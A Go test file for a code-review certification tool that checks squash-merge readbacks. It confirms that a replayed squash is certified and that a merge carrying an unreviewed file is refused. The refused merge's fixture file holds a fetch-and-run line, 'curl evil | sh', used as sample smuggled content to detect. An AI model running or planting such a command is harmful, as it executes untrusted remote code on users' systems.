package readback_test

import (
	"context"
	"strings"
	"testing"

	"github.com/aepgate/aepgate/app"
	"github.com/aepgate/aepgate/app/readback"
	"github.com/aepgate/aepgate/internal/gh"
	"github.com/aepgate/aepgate/internal/testkit/appkit"
	"github.com/aepgate/aepgate/internal/testkit/ghfake"
)

// strictYAML is appkit.ReadbackYAML under the strict rule.
const strictYAML = appkit.ReadbackYAML + "readback:\n  coverage: strict\n"

// TestReadbackReplaysSquashOntoMovedMain: main moves under the review and
// the pull request is squashed onto it; the audited change replayed by git
// onto the squash's parent gives exactly its tree, so the readback
// succeeds without a new audit and the certificate is issued. Under the
// strict rule the same merge is refused (TestReadbackRefusesSquashWithOtherTree).
func TestReadbackReplaysSquashOntoMovedMain(t *testing.T) {
	w := appkit.NewReadbackWorld(t, appkit.ReadbackYAML, nil)
	moved := w.Repo.Commit("main", "meanwhile", map[string]string{"other.go": "package y\n"})
	merge := w.PR.Merge(ghfake.Squash)
	w.MainCI(merge, "success")
	run := w.WaitReadback(t, merge, "success")
	if !strings.Contains(run.Summary, "Coverage `replay`") || !strings.Contains(run.Summary, moved) {
		t.Errorf("readback summary does not say the change was replayed onto %s:\n%s", moved, run.Summary)
	}
	c := w.CertificateOn(t, merge)
	if c["mergeSha"] != merge || c["auditedSha"] != w.PR.Head() {
		t.Errorf("certificate %v", c)
	}
}

// TestReadbackRefusesSquashCarryingUnreviewedEdit: the pull request is
// read back as merged by a squash that also adds a file no audit saw (a
// commit GitHub's squash cannot make, so the test's reader hands it in as
// the merge): the readback fails naming the path and its hunk, and no
// certificate is issued. The strict rule refuses it too (its tree is not
// the audited head's).
func TestReadbackRefusesSquashCarryingUnreviewedEdit(t *testing.T) {
	for _, tt := range []struct{ name, yaml, token string }{
		{"replay", appkit.ReadbackYAML, "coverage-residual"},
		{"strict", strictYAML, "head-not-proven-unchanged"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			shipped := &mergedAs{}
			w := appkit.NewReadbackWorld(t, tt.yaml, func(o *app.ReadbackSeams) {
				o.Reader = func(r readback.MergeReader) readback.MergeReader { return mergedAsReader{MergeReader: r, as: shipped} }
			})
			w.Repo.Commit("main", "meanwhile", map[string]string{"other.go": "package y\n"})
			shipped.parent = w.Repo.Branch("evil", "main")
			shipped.sha = w.Repo.Commit("evil", "Work", map[string]string{"work.go": "package x\n", "extra.sh": "curl evil | sh\n"})
			w.MainCI(shipped.sha, "success")
			w.PR.Merge(ghfake.Squash)
			run := w.WaitReadback(t, shipped.sha, "failure")
			w.WantRefused(t, shipped.sha, run, tt.token)
			if tt.name == "replay" && (!strings.Contains(run.Summary, "extra.sh") || !strings.Contains(run.Summary, "+curl evil | sh")) {
				t.Errorf("readback does not name extra.sh and its hunk:\n%s", run.Summary)
			}
		})
	}
}

// mergedAs is the commit mergedAsReader reports the pull request merged
// as (set once the test made it).
type mergedAs struct{ sha, parent string }

// mergedAsReader reports every merged pull request as merged as as.sha,
// with that commit's parent.
type mergedAsReader struct {
	readback.MergeReader
	as *mergedAs
}

func (r mergedAsReader) MergedPull(ctx context.Context, owner, repo string, n int) (*gh.MergedPull, error) {
	m, err := r.MergeReader.MergedPull(ctx, owner, repo, n)
	if err != nil || m == nil || !m.Merged {
		return m, err
	}
	m.MergeSHA, m.MergeParents, m.MergeTree, m.MergeRuns = r.as.sha, []string{r.as.parent}, "", nil
	return m, nil
}
